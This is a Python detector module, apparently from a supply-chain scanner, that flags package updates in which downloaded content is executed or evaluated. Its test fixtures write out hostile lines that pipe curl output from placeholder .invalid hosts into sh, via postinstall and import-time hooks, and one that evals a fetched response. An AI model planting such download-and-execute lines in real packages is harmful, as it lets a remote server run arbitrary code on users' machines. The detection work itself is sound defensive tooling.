"""This update runs what it downloads.

## What it detects
A flow from a connection (directly, or through a file that is written) to a process that is started or to code that
is evaluated, that the line never had; and a command line that pipes a download into an interpreter.
At first contact an ordinary download of a program at installation weighs little, since honest packages fetch their
binaries so; a hidden address, a bare address or a suspicious service makes it heavy.

## Why it matters
What is published stays small and dull; the payload is whatever the server answers to this one machine. 42 of 75
documented incidents fetch, and a scanner that comes later gets another answer.

## What it misses
A download in one file that another file starts; a second stage that a dependency fetches (it is read as a release of
its own); code run by the interpreter's own remote imports.

## References
- MITRE ATT&CK T1105, Ingress Tool Transfer; T1059
"""

from collections.abc import Iterator

from lazaretto.core.destination import destination, pipes_download
from lazaretto.core.facts import Kind, Reach
from lazaretto.core.finding import Card, Example, Finding
from lazaretto.core.question import AUTORUN, Chain, Tally, decoded, hidden, new_chains, package_json, runs_by_itself
from lazaretto.core.update import Pair, Placed, Update

CARD = Card(
    id="download-flows-to-execution",
    title="A download is executed",
    variants={
        "autorun-data": "Code that runs by itself executes what it downloaded.",
        "autorun-scope": "Code that runs by itself downloads and executes in one function.",
        "call-suspicious": "A function executes what it downloaded from a bare, hidden or suspicious address.",
        "call-data": "A function executes what it downloaded.",
        "first-contact-suspicious": "No earlier release; what runs by itself was downloaded from a suspicious address.",
        "first-contact": "No earlier release; code that runs by itself executes what it downloaded.",
    },
    group="flow",
    why="The payload never stands in the registry.",
    attack=("T1195.002", "T1105", "T1059"),
)

_SOURCES = (Kind.NET_CONNECT, Kind.RUNTIME_FETCH)
_SINKS = (Kind.PROCESS_SPAWN, Kind.CODE_EVAL)

_BEFORE = {"package.json": package_json("1.0.0"), "index.js": "module.exports = (a) => a;\n"}
_INSTALLER = "const { execSync } = require('child_process');\nexecSync('curl -s https://files.invalid/pad | sh');\n"

EXAMPLES = (
    Example(
        title="the entry file evaluates what a server answers",
        before=_BEFORE,
        after={
            "package.json": package_json("1.0.1"),
            "index.js": "fetch('https://stage.invalid/b').then((r) => r.text()).then((t) => eval(t));\n"
            "module.exports = (a) => a;\n",
        },
        expect="autorun-data",
        at="index.js:1",
    ),
    Example(
        title="a Python package pipes a download into a shell at import",
        ecosystem="pypi",
        before={"pad/__init__.py": "WIDTH = 2\n"},
        after={"pad/__init__.py": "import os\nos.system('curl -s http://stage.invalid/x | sh')\nWIDTH = 2\n"},
        expect="autorun-data",
        at="pad/__init__.py:2",
    ),
    Example(
        title="an installer that always downloaded its program",
        before={
            "package.json": package_json("1.0.0", scripts={"postinstall": "node install.js"}),
            "install.js": _INSTALLER,
        },
        after={
            "package.json": package_json("1.0.1", scripts={"postinstall": "node install.js"}),
            "install.js": _INSTALLER.replace("pad |", "pad-1.0.1 |"),
        },
    ),
    Example(
        title="a client that downloads and parses",
        before=_BEFORE,
        after={
            "package.json": package_json("1.0.1"),
            "index.js": "exports.load = () => fetch('https://api.invalid/v1').then((r) => r.json());\n",
        },
    ),
)

_MESSAGES = {
    "autorun-data": "executes, without being called, what it downloads",
    "autorun-scope": "downloads and executes in one function, without being called",
    "call-suspicious": "executes, when it is called, what it downloads from a suspicious address",
    "call-data": "executes, when it is called, what it downloads",
    "first-contact-suspicious": "executes, without being called, what it downloads from a suspicious address",
    "first-contact": "executes, without being called, what it downloads",
}


def detect(update: Update) -> Iterator[Finding]:
    """Yield one finding for each variant."""
    tally = Tally(CARD)
    for pair in update.pairs:
        for chain, new_kind in new_chains(pair, _SOURCES, _SINKS):
            variant = _variant(pair, chain, new_kind=new_kind)
            if variant:
                tally.add(variant, pair, chain.source, chain.sink)
                tally.explain(variant, decoded(pair, chain.sink.path))
        for placed in _new_pipes(pair):
            tally.add(_pipe_variant(pair, placed), pair, placed)
    yield from tally.findings(_MESSAGES)


def _variant(pair: Pair, chain: Chain, *, new_kind: bool) -> str | None:
    autorun = chain.reach in AUTORUN
    suspicious = chain.data and bool(hidden(chain.source.fact) or destination(chain.source.fact.value))
    if pair.before is None:
        at_once = "first-contact-suspicious" if suspicious else "first-contact"
        return at_once if autorun and chain.data else None
    if suspicious and not autorun:
        return "call-suspicious"
    if not new_kind and not suspicious:
        return None
    if autorun:
        return "autorun-data" if chain.data else "autorun-scope"
    return "call-data" if chain.data else None


def _new_pipes(pair: Pair) -> Iterator[Placed]:
    """Yield commands that pipe a download into an interpreter, in lines that never ran such a command there."""
    known = pair.before.placed if pair.before else ()
    order = list(Reach)
    had = [order.index(p.reach) for p in known if p.fact.kind is Kind.PROCESS_SPAWN and pipes_download(p.fact.value)]
    for placed in pair.gained(Kind.PROCESS_SPAWN, Kind.LITERAL_COMMAND):
        if pipes_download(placed.fact.value) and order.index(placed.reach) < min(had, default=9):
            yield placed


def _pipe_variant(pair: Pair, placed: Placed) -> str:
    suspicious = hidden(placed.fact) or destination(placed.fact.value)
    if pair.before is None:
        return "first-contact-suspicious" if suspicious else "first-contact"
    if runs_by_itself(placed):
        return "autorun-data"
    return "call-suspicious" if suspicious else "call-data"
